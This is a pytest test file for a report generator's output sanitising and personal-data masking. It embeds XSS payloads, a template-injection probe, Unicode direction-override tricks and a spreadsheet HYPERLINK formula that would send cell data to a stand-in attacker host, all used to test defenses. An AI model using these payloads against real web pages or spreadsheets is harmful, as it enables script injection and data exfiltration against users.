"""Stored page text is hostile: it must not run in a page, in a spreadsheet, or deceive the eye, nor leak persons."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from auditor.masking import mask
from auditor.report import build
from auditor.report.safe import cell, link, visible
from tests.report import sample

EVIL = '</title></style><script>alert(1)</script><img src=x onerror=alert(2)>" onmouseover="x" {{ 7*7 }}'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1", "\n=1")


def hostile() -> dict[str, bytes]:
    b = sample.Builder()
    b.source("evil", EVIL)
    text = f"前文 {EVIL} 电话13812345678 \u202egnp.exe\u202c {FORMULA} 包过{'很长' * 3000}"
    program = b.program(
        b.page("evil", text, url="javascript:alert(1)", tampered=EVIL), FORMULA, EVIL, issuer=EVIL, region="\u202e假"
    )
    b.fee(program, EVIL, 100, level=FORMULA, per=EVIL)
    b.finding(program, "R01", f"包过{'很长' * 3000}", why=EVIL, title=EVIL, rule_version=EVIL)
    b.finding(program, "R05", FORMULA, why="\u2066隐\u2069", basis='[{"document":"<script>x</script>","article":1},7]')
    b.finding(program, "R18", "不在原文里", outcome="could_not_check", why=EVIL)
    b.add(
        "verifications", program_id=program["program_id"], outcome=EVIL, asked_name=EVIL, explanation=FORMULA,
        register=EVIL,
    )  # fmt: skip
    b.add("gaps", source_id=EVIL, subject=EVIL, stage=EVIL, reason=FORMULA, todo=EVIL)
    b.add("gates", suite="s", check=EVIL, subject=EVIL, level=EVIL, success=False, observed=EVIL, expected="", todo="")
    b.add("coverage", register=EVIL, province=EVIL, institution_class=EVIL, complete=False, filings=None, why=EVIL)
    b.add(
        "risks", subject_kind="institution", subject_id=EVIL, name=EVIL, score=1, level=EVIL,
        parts=json.dumps([{"rule": EVIL, "points": EVIL, "formula": EVIL}, "x"]),
    )  # fmt: skip
    return build(sample.WEEK, b.plan(), b.frames(), {"findings": b.frames()["findings"]}, sample.RULES)


@pytest.fixture(scope="module")
def files() -> dict[str, bytes]:
    return hostile()


def test_no_markup_of_a_page_becomes_markup_of_the_report(files: dict[str, bytes]) -> None:
    page = LexborHTMLParser(files["index.html"].decode())
    assert page.css("script, img, [onerror], [onmouseover]") == []
    assert page.css('a[href^="javascript"]') == []
    assert "<script>alert(1)</script>" in page.css_first("#findings").text(), "shown as text"
    assert "{{ 7*7 }}" in page.css_first("#findings").text(), "never a template"
    assert len(page.css("body")) == len(page.css("main")) == 1


def test_direction_marks_cannot_reorder_what_a_reader_sees(files: dict[str, bytes]) -> None:
    page = files["index.html"].decode()
    assert not set(page) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f")
    assert "[U+202E]" in page


def test_no_cell_of_the_spreadsheet_is_a_formula(files: dict[str, bytes]) -> None:
    text = files["findings.csv"].decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [value for row in rows for value in row]
    assert not [value for value in cells if value.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))]
    assert any(value.startswith("'=HYPERLINK") for value in cells)
    assert text.count("\r\n") == len(rows), "one line per finding, whatever the page says"
    assert all(len(row) == len(rows[0]) for row in rows)


def test_a_very_long_phrase_is_shortened_on_the_page_only(files: dict[str, bytes]) -> None:
    page = LexborHTMLParser(files["index.html"].decode())
    assert max(len(node.text()) for node in page.css("mark")) < 500
    assert "共 6002 字" in page.css_first("#findings").text()
    phrases = {row["phrase"] for row in json.loads(files["findings.json"])["findings"]}
    assert f"包过{'很长' * 3000}" in phrases


def test_a_phrase_that_is_not_at_its_span_gets_no_invented_context() -> None:
    b = sample.week()
    b.rows["findings"][0] |= {"start": 3, "end": 7}
    files = build(sample.WEEK, b.plan(), b.frames(), None, sample.RULES)
    lead = LexborHTMLParser(files["index.html"].decode()).css_first("details.finding")
    assert lead.css_first(".around").text() == ""
    assert "未能与引文对上" in lead.text()


def test_phone_of_a_person_leaves_the_store_in_no_file(files: dict[str, bytes]) -> None:
    ordinary = sample.week()
    ordinary.rows["findings"][0]["why"] = "电话13812345678"
    more = build(sample.WEEK, ordinary.plan(), ordinary.frames(), None, sample.RULES)
    for data in (*files.values(), *more.values()):
        assert b"13812345678" not in data
        assert b"qiming_laoshi" not in data
        assert "王小明".encode() not in data
    assert b"138****5678" in more["findings.csv"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_disarmed(value: str) -> None:
    assert cell(value).startswith("'")


def test_plain_cells_stay_as_they_are() -> None:
    assert [cell(value) for value in (None, 12, -3, 1.5, True, "签约保过")] == [
        "",
        "12",
        "-3",
        "1.5",
        "true",
        "签约保过",
    ]


@pytest.mark.parametrize(
    ("url", "linked"),
    [
        ("http://a.example/x?y=1", True), ("https://例子.中国/", True), ("file:a.html", False),
        ("javascript:alert(1)", False), ("http://user:pw@a.example/", False), ("http://", False),
        ("//a.example", False),
        ("http://[::1", False), ("", False), ("data:text/html,x", False), ("http://a.example/\u202egnp", False),
    ],
)  # fmt: skip
def test_only_plain_web_addresses_become_links(url: str, linked: bool) -> None:
    assert link(url) == (url if linked else None)


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("电话13812345678。", "电话138****5678。"),
        ("+8613812345678", "+86138****5678"),
        ("１３８１２３４５６７８", "１３８****５６７８"),
        ("138-1234-5678", "138******5678"),
        ("身份证11010119900307123X", "身份证110101************"),
        ("微信：wang_laoshi8", "微信：wa**********"),
        ("联系人：王小明", "联系人：王**"),
    ],
)
def test_personal_data_is_masked(text: str, masked: str) -> None:
    assert mask(text) == masked


@pytest.mark.parametrize(
    "text",
    [
        "400-123-4567",
        "0571-88881234",
        "91330106MA27XK4T5Q",
        "913301067245678901",
        "S000033000123263000001",
        "¥12980000000",
    ],
)
def test_public_numbers_stay_readable(text: str) -> None:
    assert mask(text) == text


def test_a_digest_that_looks_like_a_phone_number_is_not_masked() -> None:
    b = sample.week()
    digest = "a13812345678" + "b" * 52
    b.rows["findings"][0]["facts_digest"] = digest
    files = build(sample.WEEK, b.plan() | {"table_digests": {"x": digest}}, b.frames(), None, sample.RULES)
    assert all(digest.encode() in files[name] for name in ("findings.csv", "findings.json", "manifest.json"))


@given(st.text())
def test_masking_keeps_every_span_valid(text: str) -> None:
    assert len(mask(text)) == len(text)


@given(st.text())
def test_visible_text_has_no_controls(text: str) -> None:
    assert not any(ord(char) < 32 or char in "\u202e\u200b\u2028" for char in visible(text))
